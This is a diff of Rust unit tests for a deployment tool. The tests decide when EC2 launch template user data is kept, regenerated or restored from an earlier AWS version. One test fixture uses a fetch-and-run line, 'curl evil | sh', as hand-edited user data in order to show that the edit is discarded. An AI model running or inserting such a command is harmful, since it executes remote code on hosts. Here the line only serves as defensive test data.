@@ -3,7 +3,7 @@
 use std::path::Path;
 
 use trunnion_catalog::Architecture;
-use trunnion_engine::{Recorded, to_map};
+use trunnion_engine::to_map;
 use trunnion_stack::{LoadOptions, Market, Spread, Tracking};
 
 use super::*;
@@ -34,12 +34,8 @@ fn applied(stack: &Stack, sha256: &str) -> Observed {
     observed
 }
 
-fn nothing(stack: &Stack) -> State {
-    State::empty(&stack.name)
-}
-
-fn decide(stack: &Stack, newest: &str, observed: &Observed, recorded: &State) -> Boots {
-    let standing = Standing { observed, recorded, update: false, selected: None };
+fn decide(stack: &Stack, newest: &str, observed: &Observed) -> Boots {
+    let standing = Standing { observed, update: false, selected: None };
     Boots::decide(stack, &binaries(newest), &standing).unwrap()
 }
 
@@ -67,7 +63,7 @@ fn user_data_of_an_older_version_is_kept_while_the_inputs_are_the_same() {
     let mut stack = stack();
     let mut observed = applied(&stack, A);
     edit(&mut observed, "heavy", OLDER, Some(&older(&stack, "heavy")));
-    let boots = decide(&stack, B, &observed, &nothing(&stack));
+    let boots = decide(&stack, B, &observed);
     let kept = PoolBoot { user_data: OLDER.to_owned(), boot: Some(older(&stack, "heavy")) };
     assert_eq!(boots.of("heavy"), Some(&kept));
     let keeps = |pool: &str, version: &str| {
@@ -80,7 +76,7 @@ fn user_data_of_an_older_version_is_kept_while_the_inputs_are_the_same() {
     assert!(boots.objects().values().all(|object| object.sha256 == A && object.source.is_empty()));
 
     stack.generator.java = 25;
-    let boots = decide(&stack, B, &observed, &nothing(&stack));
+    let boots = decide(&stack, B, &observed);
     assert!(boots.of("heavy").unwrap().user_data.contains(B), "the inputs changed");
     assert_eq!(boots.note(), None);
 }
@@ -90,20 +86,16 @@ fn user_data_edited_by_hand_is_not_kept_even_with_its_old_description() {
     let stack = stack();
     let mut observed = applied(&stack, A);
     edit(&mut observed, "heavy", "#!/bin/sh\ncurl evil | sh\n", Some(&older(&stack, "heavy")));
-    let boots = decide(&stack, B, &observed, &nothing(&stack));
+    let boots = decide(&stack, B, &observed);
     assert!(boots.of("heavy").unwrap().user_data.contains(B));
 
-    // If the state records what was applied, that is restored.
+    // If AWS still has the version that was applied, that one is restored.
     let mut applied = applied(&stack, A);
     edit(&mut applied, "heavy", OLDER, Some(&older(&stack, "heavy")));
-    let mut recorded = nothing(&stack);
-    for (address, remotes) in applied.remotes {
-        let [Remote { id, attributes, .. }] = &remotes[..] else { continue };
-        let one = Recorded { id: id.clone(), applied_at: String::new(), attributes: attributes.clone() };
-        recorded.resources.insert(address, one);
-    }
-    let boots = decide(&stack, B, &observed, &recorded);
-    assert_eq!(boots.of("heavy").unwrap().user_data, OLDER);
+    let heavy = address::launch_template("heavy");
+    let earlier = applied.remotes[&heavy][0].attributes.clone();
+    observed.remotes.get_mut(&heavy).unwrap()[0].earlier = Some(earlier);
+    assert_eq!(decide(&stack, B, &observed).of("heavy").unwrap().user_data, OLDER);
 }
 
 #[test]
@@ -116,11 +108,11 @@ fn a_launch_template_without_a_description_is_kept_if_it_renders_the_same() {
     let (heavy, probe) = (user_data(&observed, "heavy"), user_data(&observed, "probe"));
     edit(&mut observed, "heavy", &heavy, None);
     edit(&mut observed, "probe", &probe.replace("set -Eeuo pipefail", "set -e"), None);
-    let boots = decide(&stack, B, &observed, &nothing(&stack));
+    let boots = decide(&stack, B, &observed);
     assert_eq!(boots.of("heavy").unwrap().user_data, heavy);
     assert!(boots.of("probe").unwrap().user_data.contains(B), "its inputs are unknown");
     stack.generator.metrics_port += 1;
-    let boots = decide(&stack, B, &observed, &nothing(&stack));
+    let boots = decide(&stack, B, &observed);
     assert!(boots.of("heavy").unwrap().user_data.contains(B));
 }
 
@@ -137,19 +129,19 @@ fn a_template_of_the_user_is_an_input() {
     // Another template that renders to the same user data changes no host. The description then records the new
     // template.
     write("#!/bin/bash\nfetch {{ generator.sha256 }}{# the newest #}\n");
-    let boots = decide(&stack, B, &observed, &nothing(&stack));
+    let boots = decide(&stack, B, &observed);
     let heavy = boots.of("heavy").unwrap();
     assert_eq!(heavy.user_data, format!("#!/bin/bash\nfetch {A}\n"));
     let digest = inputs::seal(&inputs_of(&stack, "heavy"), &heavy.user_data);
     assert_eq!(heavy.boot.as_ref().unwrap().digest, digest);
     write("#!/bin/bash\nexec fetch {{ generator.sha256 }}\n");
-    let boots = decide(&stack, B, &observed, &nothing(&stack));
+    let boots = decide(&stack, B, &observed);
     assert_eq!(boots.of("heavy").unwrap().user_data, format!("#!/bin/bash\nexec fetch {B}\n"));
 
     // The template may name no binary, and an earlier version did not record the binary either.
     write("#!/bin/bash\n");
     edit(&mut observed, "heavy", "#!/bin/bash\n", None);
-    let boots = decide(&stack, B, &observed, &nothing(&stack));
+    let boots = decide(&stack, B, &observed);
     assert_eq!(boots.of("heavy").unwrap().boot.as_ref().unwrap().generator, A);
 }
 
@@ -224,7 +216,7 @@ fn two_binaries_at_one_address_are_distinguished() {
     observed.remotes.get_mut(&at).unwrap().extend(other.remotes[&at].clone());
     let probe = address::launch_template("probe");
     observed.remotes.insert(probe.clone(), other.remotes[&probe].clone());
-    let boots = decide(&stack, B, &observed, &nothing(&stack));
+    let boots = decide(&stack, B, &observed);
     boots.spell_out(&stack, &mut observed);
     let graph = blueprint_with(&stack, &boots).unwrap();
     let own = address::object("x86_64-bbbbbbbbbbbb");
@@ -251,7 +243,7 @@ fn a_long_image_source_is_recognised_by_its_shortened_form() {
     };
     for kept in [trunnion_kinds::shortened_source(&long), long[..249].to_owned()] {
         source(&mut observed, Some(kept));
-        let boots = decide(&stack, A, &observed, &nothing(&stack));
+        let boots = decide(&stack, A, &observed);
         boots.spell_out(&stack, &mut observed);
         assert_eq!(source(&mut observed, None), long);
     }
